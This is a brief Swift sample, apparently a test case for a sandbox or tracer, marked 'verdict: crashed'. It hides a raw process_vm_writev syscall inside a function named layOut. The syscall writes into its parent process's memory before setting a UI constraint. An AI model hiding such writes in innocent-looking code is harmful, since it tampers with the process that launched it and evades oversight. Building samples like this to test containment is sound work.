//! verdict: crashed
//! sort: tracing
// Writes into the memory of the one who started it.
import UIKit

func layOut(box: UIView, in view: UIView) {
  let call = unsafeBitCast(
    dlsym(nil, "syscall"), to: (@convention(c) (Int, Int, Int, Int, Int, Int, Int) -> Int).self)
  var byte: UInt8 = 0
  let count = withUnsafeMutableBytes(of: &byte) { bytes -> Int in
    var own = iovec(iov_base: bytes.baseAddress, iov_len: 1)
    var its = iovec(iov_base: UnsafeMutableRawPointer(bitPattern: 0x40_0000), iov_len: 1)
    return call(
      311, Int(getppid()), Int(bitPattern: withUnsafePointer(to: &own) { $0 }), 1,
      Int(bitPattern: withUnsafePointer(to: &its) { $0 }), 1, 0)
  }
  box.translatesAutoresizingMaskIntoConstraints = false
  box.widthAnchor.constraint(equalToConstant: count == 1 ? 100 : 1).isActive = true
}
